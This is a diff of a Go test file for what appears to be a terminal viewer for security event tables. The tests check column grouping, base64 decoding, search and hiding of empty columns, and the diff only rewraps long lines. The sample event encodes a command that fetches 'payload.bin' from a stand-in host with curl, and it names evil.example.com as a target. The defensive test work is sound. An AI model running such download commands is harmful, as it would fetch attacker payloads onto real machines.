@@ -15,14 +15,18 @@ import (
 // event returns a row like those of DeviceProcessEvents with something of every kind.
 func event() *table.Table {
 	columns := []table.Column{
-		{Name: "Timestamp", Type: table.DateTime}, {Name: "DeviceName", Type: table.String}, {Name: "ProcessCommandLine", Type: table.String}, {Name: "SHA256", Type: table.String},
-		{Name: "InitiatingProcessFileName", Type: table.String}, {Name: "AccountName", Type: table.String}, {Name: "RemoteIP", Type: table.String},
-		{Name: "AdditionalFields", Type: table.Dynamic}, {Name: "RawEventData", Type: table.String}, {Name: "Verdict", Type: table.String},
+		{Name: "Timestamp", Type: table.DateTime}, {Name: "DeviceName", Type: table.String},
+		{Name: "ProcessCommandLine", Type: table.String}, {Name: "SHA256", Type: table.String},
+		{Name: "InitiatingProcessFileName", Type: table.String}, {Name: "AccountName", Type: table.String},
+		{Name: "RemoteIP", Type: table.String},
+		{Name: "AdditionalFields", Type: table.Dynamic}, {Name: "RawEventData", Type: table.String},
+		{Name: "Verdict", Type: table.String},
 	}
 	b := table.NewBuilder(columns)
 	for _, name := range []string{"ws-1.contoso.com", "ws-2.contoso.com"} {
 		b.Append(table.NewTime(time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC)), table.NewString(name),
-			table.NewString("sh -c "+base64.StdEncoding.EncodeToString([]byte("curl http://10.1.2.3/payload.bin"))), table.NewString(strings.Repeat("ab", 32)),
+			table.NewString("sh -c "+base64.StdEncoding.EncodeToString([]byte("curl http://10.1.2.3/payload.bin"))),
+			table.NewString(strings.Repeat("ab", 32)),
 			table.NewString("cmd.exe"), table.Null(table.String), table.NewString("10.1.2.3"),
 			table.NewDynamic(`{"Level":"High","Tries":3,"Local":false,"Odd key":null,"Inner":{"Items":["a",2.5]}}`),
 			table.NewString(`{"Target":"{\"Host\":\"evil.example.com\"}"}`), table.NewString(""))
@@ -55,7 +59,8 @@ func TestColumnsAreGrouped(t *testing.T) {
 	m := shown(event(), 80, 40)
 	view := m.View()
 	last := -1
-	for _, title := range []string{" Event ", " Device ", " Initiating process ", " Process ", " File ", " Account ", " Network ", " Other "} {
+	for _, title := range []string{" Event ", " Device ", " Initiating process ", " Process ", " File ", " Account ",
+		" Network ", " Other "} {
 		at := strings.Index(view, title)
 		if at <= last {
 			t.Errorf("the group%sis not in its place in\n%s", title, view)
@@ -89,7 +94,8 @@ func TestDecodedTextIsShownBelowItsValue(t *testing.T) {
 	m := shown(event(), 80, 60)
 	wants(t, m, "in base64", "curl http://10.1.2.3/payload.bin")
 	find(m, "curl")
-	if got, want := press(m, "y"), (record.CopyText{Text: "curl http://10.1.2.3/payload.bin", What: "text decoded from ProcessCommandLine"}); got != want {
+	if got, want := press(m, "y"), (record.CopyText{Text: "curl http://10.1.2.3/payload.bin",
+		What: "text decoded from ProcessCommandLine"}); got != want {
 		t.Errorf("y gives %+v, want %+v", got, want)
 	}
 	press(m, "d")
@@ -130,7 +136,8 @@ func TestEmptyColumnsCanBeHidden(t *testing.T) {
 	m := shown(event(), 80, 60)
 	wants(t, m, "AccountName", "Verdict")
 	press(m, "e")
-	if view := m.View(); strings.Contains(view, "AccountName") || strings.Contains(view, "Verdict") || strings.Contains(view, " Account ") {
+	if view := m.View(); strings.Contains(view, "AccountName") || strings.Contains(view, "Verdict") ||
+		strings.Contains(view, " Account ") {
 		t.Errorf("empty columns are still shown:\n%s", view)
 	}
 	wants(t, m, "2 empty columns hidden")
@@ -145,7 +152,8 @@ func TestSearchVisitsAllMatches(t *testing.T) {
 		found = append(found, copied.What)
 		press(m, "n")
 	}
-	if got, want := strings.Join(found, ", "), "text decoded from ProcessCommandLine, RemoteIP, text decoded from ProcessCommandLine"; got != want {
+	if got, want := strings.Join(found, ", "),
+		"text decoded from ProcessCommandLine, RemoteIP, text decoded from ProcessCommandLine"; got != want {
 		t.Errorf("n goes to %s, want %s", got, want)
 	}
 	if !m.Escape() || m.Escape() {
